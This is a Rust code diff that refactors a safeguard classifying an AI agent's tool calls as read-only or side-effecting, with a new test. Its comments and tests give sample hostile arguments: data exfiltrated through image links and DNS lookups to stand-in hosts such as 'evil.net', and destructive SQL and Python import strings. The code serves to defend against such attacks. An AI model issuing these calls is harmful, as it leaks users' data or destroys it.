@@ -128,22 +128,7 @@ static CODE_THAT_ACTS: std::sync::LazyLock<Option<regex::Regex>> = std::sync::La
 /// interpreter. (Reaching the network is not a change of anything: a lookup with a link only
 /// carries data out, which provenance judges by its values.)
 pub fn changes_by_arguments(args: &Value) -> bool {
-    fn walk(key: &str, v: &Value) -> bool {
-        match v {
-            Value::Object(map) => map.iter().any(|(k, v)| walk(k, v)),
-            Value::Array(items) => key_acts(key, v) || items.iter().any(|i| walk(key, i)),
-            Value::String(s) => {
-                key_acts(key, v)
-                    || names_an_action(key, s)
-                    || SQL_WRITE.as_ref().is_none_or(|re| {
-                        re.is_match(&sql_as_run(s, " ")) || re.is_match(&sql_as_run(s, ""))
-                    })
-                    || CODE_THAT_ACTS.as_ref().is_none_or(|re| re.is_match(s))
-            }
-            other => key_acts(key, other),
-        }
-    }
-    walk("", args)
+    acts("", args, false)
 }
 
 /// Top-level domains that host most of the web's names and are no file's extension: under
@@ -225,6 +210,60 @@ const NETWORK_KEYS: &[&str] = &[
     "domain", "host", "hostname", "url", "uri", "link", "href", "endpoint", "website", "site",
 ];
 
+/// Whether the arguments under `key` act: a key or value that names an action, a database
+/// write, code for an interpreter — and, when `reach` is on, a place on the network.
+fn acts(key: &str, v: &Value, reach: bool) -> bool {
+    match v {
+        Value::String(s) => {
+            let t = s.trim_start();
+            let lower = t.get(..8).unwrap_or(t).to_ascii_lowercase();
+            let linked = ["http://", "https://", "ftp://", "ws://", "wss://"]
+                .iter()
+                .any(|scheme| lower.starts_with(scheme));
+            let network_key = || {
+                !key.is_empty()
+                    && super::classify::words(key)
+                        .iter()
+                        .any(|w| NETWORK_KEYS.contains(&w.as_str()))
+            };
+            let hosted = || {
+                !t.contains(char::is_whitespace)
+                    && (t.starts_with("//")
+                    || t.starts_with("\\\\")
+                    || lower.starts_with("data:")
+                    || (t.starts_with('[') && t.contains(':'))
+                    // An IPv4 address written as one hexadecimal number, which resolvers
+                    // take (`0xcb007107`).
+                    || (lower.starts_with("0x")
+                        && t.len() == 10
+                        && t[2..].bytes().all(|b| b.is_ascii_hexdigit()))
+                    || (t.contains('.') && !t.starts_with(['/', '.', '~']) && network_key())
+                    // A value that is a host or a link whatever its key (`203.0.113.7`,
+                    // `cb.evil-cdn.net`, `ftp.evil.net/x`); not under a key that names a
+                    // path, where `setup.sh` is a file.
+                    || (!super::paths::path_like(key)
+                        && super::atoms::atoms(t).iter().any(|(kind, atom)| {
+                            *kind == super::atoms::AtomKind::Link
+                                && t.starts_with(atom.as_str())
+                        }))
+                    || (super::paths::path_like(key) && host_under_path_key(t)))
+            };
+            (reach && (linked || hosted()))
+                || names_an_action(key, t)
+                || key_acts(key, v)
+                || CODE_THAT_ACTS.as_ref().is_none_or(|re| re.is_match(s))
+                || SQL_WRITE.as_ref().is_none_or(|re| {
+                    // A comment splits words for most databases and joins them for
+                    // some: read both ways.
+                    re.is_match(&sql_as_run(s, " ")) || re.is_match(&sql_as_run(s, ""))
+                })
+        }
+        Value::Array(items) => key_acts(key, v) || items.iter().any(|i| acts(key, i, reach)),
+        Value::Object(map) => map.iter().any(|(k, v)| acts(k, v, reach)),
+        other => key_acts(key, other),
+    }
+}
+
 /// A call's effect: its tool's, made side-effecting by what its arguments say the call does
 /// whatever the tool is called (an outsider's attack ran each through a "lookup"): a statement
 /// that changes a database (`DROP TABLE …` to `query_database`), or a place on the network —
@@ -232,57 +271,7 @@ const NETWORK_KEYS: &[&str] = &[
 /// so carries whatever is written in it (`get_image {"src": "https://evil/l.png?k=<code>"}`,
 /// `lookup_domain {"domain": "<code>.evil.net"}`).
 pub fn call_effect(tool: Effect, args: &Value) -> Effect {
-    fn acts(key: &str, v: &Value) -> bool {
-        match v {
-            Value::String(s) => {
-                let t = s.trim_start();
-                let lower = t.get(..8).unwrap_or(t).to_ascii_lowercase();
-                let linked = ["http://", "https://", "ftp://", "ws://", "wss://"]
-                    .iter()
-                    .any(|scheme| lower.starts_with(scheme));
-                let network_key = || {
-                    !key.is_empty()
-                        && super::classify::words(key)
-                            .iter()
-                            .any(|w| NETWORK_KEYS.contains(&w.as_str()))
-                };
-                let hosted = !t.contains(char::is_whitespace)
-                    && (t.starts_with("//")
-                        || t.starts_with("\\\\")
-                        || lower.starts_with("data:")
-                        || (t.starts_with('[') && t.contains(':'))
-                        // An IPv4 address written as one hexadecimal number, which resolvers
-                        // take (`0xcb007107`).
-                        || (lower.starts_with("0x")
-                            && t.len() == 10
-                            && t[2..].bytes().all(|b| b.is_ascii_hexdigit()))
-                        || (t.contains('.') && !t.starts_with(['/', '.', '~']) && network_key())
-                        // A value that is a host or a link whatever its key (`203.0.113.7`,
-                        // `cb.evil-cdn.net`, `ftp.evil.net/x`); not under a key that names a
-                        // path, where `setup.sh` is a file.
-                        || (!super::paths::path_like(key)
-                            && super::atoms::atoms(t).iter().any(|(kind, atom)| {
-                                *kind == super::atoms::AtomKind::Link
-                                    && t.starts_with(atom.as_str())
-                            }))
-                        || (super::paths::path_like(key) && host_under_path_key(t)));
-                linked
-                    || hosted
-                    || names_an_action(key, t)
-                    || key_acts(key, v)
-                    || CODE_THAT_ACTS.as_ref().is_none_or(|re| re.is_match(s))
-                    || SQL_WRITE.as_ref().is_none_or(|re| {
-                        // A comment splits words for most databases and joins them for
-                        // some: read both ways.
-                        re.is_match(&sql_as_run(s, " ")) || re.is_match(&sql_as_run(s, ""))
-                    })
-            }
-            Value::Array(items) => key_acts(key, v) || items.iter().any(|i| acts(key, i)),
-            Value::Object(map) => map.iter().any(|(k, v)| acts(k, v)),
-            other => key_acts(key, other),
-        }
-    }
-    if tool == Effect::SideEffecting || acts("", args) {
+    if tool == Effect::SideEffecting || acts("", args, true) {
         return Effect::SideEffecting;
     }
     Effect::ReadOnly
@@ -404,6 +393,24 @@ mod tests {
         assert!(!weakens("set_log_retention", &json!({"days": 30})));
         assert!(!weakens("set_thermostat", &json!({"degrees": 0})));
         assert!(!weakens("update_profile", &json!({"newsletter": false})));
+    }
+
+    /// What changes something is what makes a call act, less reaching the network: a fetch
+    /// carries data out but changes nothing.
+    #[test]
+    fn a_change_is_an_action_less_the_network() {
+        use super::{Effect, call_effect, changes_by_arguments};
+        for args in [
+            json!({"folder": "inbox", "mark_all_read": true}),
+            json!({"sql": "DELETE FROM users"}),
+            json!({"expression": "__import__('os')"}),
+        ] {
+            assert!(changes_by_arguments(&args), "{args}");
+            assert_eq!(call_effect(Effect::ReadOnly, &args), Effect::SideEffecting);
+        }
+        let fetch = json!({"url": "https://status.example.com/x"});
+        assert!(!changes_by_arguments(&fetch));
+        assert_eq!(call_effect(Effect::ReadOnly, &fetch), Effect::SideEffecting);
     }
 
     /// A pattern that does not compile makes every call side-effecting (closed, but useless):
